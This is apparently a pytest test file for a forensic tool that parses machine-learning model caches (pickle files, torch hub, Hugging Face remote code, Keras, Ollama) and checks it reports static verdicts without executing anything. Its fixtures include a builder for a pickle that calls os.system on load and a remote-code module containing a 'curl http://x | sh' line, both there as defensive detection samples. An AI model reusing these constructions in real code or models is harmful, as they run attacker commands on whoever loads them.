"""Model files, torch hub, Keras, Ollama and remote code: times, sizes, hashes, repo links taken
from paths, static verdicts from the model inspector, and never an execution of what is read."""

import hashlib
import json

import pytest
from parser_helpers import T0, errors, of, put, run

from mlsleuth.events import Category

COMMIT = "c1ce190d969af8fc385c71e0d1b5c451eaa1f503"


def marker_pickle(marker) -> bytes:
    """Protocol-2 pickle calling os.system('touch <marker>') if anything ever loaded it."""
    command = f"touch {marker}".encode()
    return (b"\x80\x02cposix\nsystem\nq\x00X" + len(command).to_bytes(4, "little") + command
            + b"q\x01\x85q\x02Rq\x03.")


def has_inspector() -> bool:
    try:
        from mlsleuth.parsers.models import inspect_file  # noqa: F401
    except ImportError:
        return False
    return True


def test_stray_pickle_is_reported_and_never_run(tmp_path):
    marker = tmp_path / "EXECUTED"
    put(tmp_path, "/home/a/Downloads/model.pkl", marker_pickle(marker), mtime=T0)
    events = run(tmp_path, "/home/a/Downloads/model.pkl", "model_files")
    assert not marker.exists(), "a model file was executed"
    file_event = of(events, "Model File Modified")[0]
    data = (tmp_path / "home/a/Downloads/model.pkl").read_bytes()
    assert file_event.sha256 == hashlib.sha256(data).hexdigest() and file_event.extra["size"] == len(data)
    assert file_event.timestamp == T0 and file_event.category == Category.MODEL_DOWNLOAD
    if has_inspector():
        assert file_event.verdict == "malicious"
        finding = of(events, "Static Verdict")[0]
        assert finding.category == Category.FINDING and finding.verdict == "malicious"
        assert finding.extra["rules"]


def test_torch_hub_checkpoint_name_hash_is_checked(tmp_path):
    weights = b"\x00weights" * 100
    good = hashlib.sha256(weights).hexdigest()[:8]
    put(tmp_path, f"/home/a/.cache/torch/hub/checkpoints/resnet18-{good}.pth", weights, mtime=T0)
    put(tmp_path, "/home/a/.cache/torch/hub/checkpoints/resnet50-0badc0de.pth", weights, mtime=T0)
    put(tmp_path, "/home/a/.cache/torch/hub/trusted_list", "pytorch_vision\nevil_repo\n", mtime=T0)
    ok = run(tmp_path, f"/home/a/.cache/torch/hub/checkpoints/resnet18-{good}.pth", "torch_hub")
    bad = run(tmp_path, "/home/a/.cache/torch/hub/checkpoints/resnet50-0badc0de.pth", "torch_hub")
    assert not of(ok, "Tampered Checkpoint") and of(ok, "Checkpoint Downloaded")
    assert of(bad, "Tampered Checkpoint")[0].category == Category.FINDING
    trusted = run(tmp_path, "/home/a/.cache/torch/hub/trusted_list", "torch_hub")[0]
    assert trusted.extra["trusted_repos"] == ["pytorch_vision", "evil_repo"]


def test_remote_code_paths_give_repo_and_commit(tmp_path):
    code = "import os\nos.system('curl http://x | sh')\nclass Model: pass\n"
    base = "/home/a/.cache/huggingface/modules/transformers_modules"
    put(tmp_path, f"{base}/org/name_hyphen_x_dot_1/{COMMIT}/modeling_x.py", code, mtime=T0)
    put(tmp_path, f"{base}/__init__.py", "", mtime=T0)
    put(tmp_path, "/home/a/.cache/torch/hub/pytorch_vision_main/hubconf.py", "dependencies = ['torch']\n", mtime=T0)
    put(tmp_path, "/home/a/.cache/huggingface/modules/datasets_modules/datasets/org--data/"
                  "0123456789abcdef0123/data.py", "import datasets\n", mtime=T0)
    event = run(tmp_path, f"{base}/org/name_hyphen_x_dot_1/{COMMIT}/modeling_x.py", "remote_code_modules")[0]
    assert (event.model_repo, event.revision, event.category) == ("models/org/name-x.1", COMMIT, Category.REMOTE_CODE)
    assert "os.system" in event.extra["code"]["risky"] and event.timestamp == T0
    assert event.sha256 == hashlib.sha256(code.encode()).hexdigest()
    init = run(tmp_path, f"{base}/__init__.py", "remote_code_modules")[0]
    assert init.extra["init_file"] is True and init.model_repo is None
    hub = run(tmp_path, "/home/a/.cache/torch/hub/pytorch_vision_main/hubconf.py", "remote_code_modules")[0]
    assert (hub.model_repo, hub.revision) == ("github/pytorch/vision", "main")
    ds = run(tmp_path, "/home/a/.cache/huggingface/modules/datasets_modules/datasets/org--data/"
                       "0123456789abcdef0123/data.py", "remote_code_modules")[0]
    assert ds.model_repo == "datasets/org/data" and ds.extra["script_hash"] == "0123456789abcdef0123"


def test_datasets_cache_metadata(tmp_path):
    put(tmp_path, "/home/a/.cache/huggingface/datasets/downloads/abc.json",
        json.dumps({"url": f"https://huggingface.co/datasets/org/data/resolve/{COMMIT}/train.csv", "etag": "x"}),
        mtime=T0)
    event = run(tmp_path, "/home/a/.cache/huggingface/datasets/downloads/abc.json", "remote_code_modules")[0]
    assert (event.model_repo, event.revision, event.timestamp_desc) == (
        "datasets/org/data", COMMIT, "Dataset File Downloaded")


def test_keras_home(tmp_path):
    put(tmp_path, "/home/a/.keras/keras.json", '{"backend": "jax", "floatx": "float32"}', mtime=T0)
    put(tmp_path, "/home/a/.keras/models/resnet50_weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64, mtime=T0)
    assert "backend=jax" in run(tmp_path, "/home/a/.keras/keras.json", "keras_home")[0].message
    model = of(run(tmp_path, "/home/a/.keras/models/resnet50_weights.h5", "keras_home"), "Model File Modified")
    assert model and model[0].extra["size"] == 72
    put(tmp_path, "/home/a/.keras/keras.json", "{oops", mtime=T0)
    assert errors(run(tmp_path, "/home/a/.keras/keras.json", "keras_home"))


def test_ollama_manifest_blobs_and_history(tmp_path):
    weights = b"GGUF\x03\x00\x00\x00" + b"\x00" * 64
    digest = hashlib.sha256(weights).hexdigest()
    root = "/home/a/.ollama/models"
    manifest = {"schemaVersion": 2, "config": {"mediaType": "application/vnd.docker.container.image.v1+json",
                                               "digest": "sha256:" + "1" * 64, "size": 10},
                "layers": [{"mediaType": "application/vnd.ollama.image.model", "digest": f"sha256:{digest}",
                            "size": len(weights)}]}
    put(tmp_path, f"{root}/manifests/registry.ollama.ai/library/llama3/8b", json.dumps(manifest), mtime=T0)
    put(tmp_path, f"{root}/blobs/sha256-{digest}", weights, mtime=T0)
    put(tmp_path, f"{root}/blobs/sha256-{'2' * 64}", b"changed", mtime=T0)
    put(tmp_path, "/home/a/.ollama/history", "why is the sky blue\n", mtime=T0)
    pulled = run(tmp_path, f"{root}/manifests/registry.ollama.ai/library/llama3/8b", "ollama")[0]
    assert (pulled.model_repo, pulled.revision, pulled.sha256) == ("ollama/library/llama3", "8b", digest)
    assert not of(run(tmp_path, f"{root}/blobs/sha256-{digest}", "ollama"), "Tampered Blob")
    assert of(run(tmp_path, f"{root}/blobs/sha256-{'2' * 64}", "ollama"), "Tampered Blob")
    prompt = run(tmp_path, "/home/a/.ollama/history", "ollama")[0]
    assert prompt.cmdline == "why is the sky blue" and prompt.timestamp_desc == "Prompt Entered"
    put(tmp_path, f"{root}/manifests/registry.ollama.ai/library/bad/latest", "{", mtime=T0)
    assert errors(run(tmp_path, f"{root}/manifests/registry.ollama.ai/library/bad/latest", "ollama"))


@pytest.mark.skipif(not has_inspector(), reason="model inspector (parsers/models) not available")
def test_hf_cache_blob_gets_the_inspector_verdict(tmp_path):
    from parser_helpers import link

    marker = tmp_path / "EXECUTED"
    data = marker_pickle(marker)
    oid = hashlib.sha256(data).hexdigest()
    hub = "/home/a/.cache/huggingface/hub/models--org--m"
    put(tmp_path, f"{hub}/blobs/{oid}", data, mtime=T0)
    link(tmp_path, f"{hub}/snapshots/{COMMIT}/pytorch_model.bin", f"../../blobs/{oid}", mtime=T0)
    put(tmp_path, f"{hub}/refs/main", COMMIT, mtime=T0)
    events = run(tmp_path, f"{hub}/refs/main", "hf_cache")
    finding = of(events, "Static Verdict")[0]
    assert finding.model_repo == "models/org/m" and finding.revision == COMMIT and finding.verdict == "malicious"
    assert finding.file_path.endswith("snapshots/" + COMMIT + "/pytorch_model.bin")
    assert not marker.exists()
